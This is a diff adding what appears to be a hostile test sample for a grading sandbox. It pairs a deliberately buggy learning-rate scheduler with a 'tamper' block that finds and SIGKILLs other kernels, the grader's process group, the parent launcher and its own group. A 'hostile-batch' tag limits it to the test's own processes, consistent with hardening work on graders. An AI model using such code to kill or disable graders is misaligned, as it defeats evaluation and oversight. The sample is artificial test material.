@@ -1,0 +1,68 @@
+# attack: SIGSTOP then SIGKILL other kernels, the parent's process group, the parent (the sandbox's launcher or the grader's worker) and its own group
+# assignment: 01_lr_schedules
+# wrong: stops decaying after 6 decays (min(step // step_size, 6)); passes the visible tests, fails both hidden checks
+class StepDecayScheduler:
+    def __init__(self, optimizer, lr_initial, gamma=0.5, step_size=1000):
+        self.optimizer = optimizer
+        self.lr_initial = lr_initial
+        self.gamma = gamma
+        self.step_size = step_size
+
+    def get_lr(self, step):
+        n_decays = min(step // self.step_size, 6)
+        return self.lr_initial * self.gamma ** n_decays
+
+    def step(self, current_step):
+        lr = self.get_lr(current_step)
+        for group in self.optimizer.param_groups:
+            group["lr"] = lr
+        return lr
+# --- tamper ---
+import os as _os
+import signal as _signal
+
+_SAFE = "hostile" + "-batch"   # safety net: only processes of the test's own temporary tree are signalled
+
+
+def _read(path):
+    try:
+        with open(path, "rb") as handle:
+            return handle.read().replace(b"\0", b" ").decode("utf-8", "replace")
+    except OSError:
+        return ""
+
+
+def _ours(pid):
+    return _SAFE in _read(f"/proc/{pid}/cmdline") or _SAFE in _read(f"/proc/{pid}/environ")
+
+
+# 1. freeze, then kill, every other kernel this one can see
+_others = [int(p) for p in _os.listdir("/proc") if p.isdigit() and int(p) != _os.getpid()]
+for _pid in _others:
+    _cmdline = _read(f"/proc/{_pid}/cmdline")
+    if ("ipykernel" in _cmdline or "kernel" in _cmdline) and _ours(_pid):
+        for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
+            try:
+                _os.kill(_pid, _sig)
+                print("signalled kernel", _pid, _sig)
+            except OSError as _error:
+                print("could not signal", _pid, _error)
+# 2. the process group of our parent, when it is the grader's
+_parent = _os.getppid()
+try:
+    _group = _os.getpgid(_parent)
+    if _group > 1 and _group != _os.getpgid(0) and _ours(_group):
+        _os.killpg(_group, _signal.SIGKILL)
+        print("killed process group", _group)
+except OSError as _error:
+    print("no process group kill:", _error)
+# 3. the parent itself (the sandbox's launcher or the grader's worker), then our own group
+print("killing parent", _parent, _read(f"/proc/{_parent}/cmdline")[:200])
+try:
+    _os.kill(_parent, _signal.SIGKILL)
+except OSError as _error:
+    print("could not kill the parent:", _error)
+try:
+    _os.killpg(0, _signal.SIGKILL)
+except OSError as _error:
+    print("could not kill our own group:", _error)
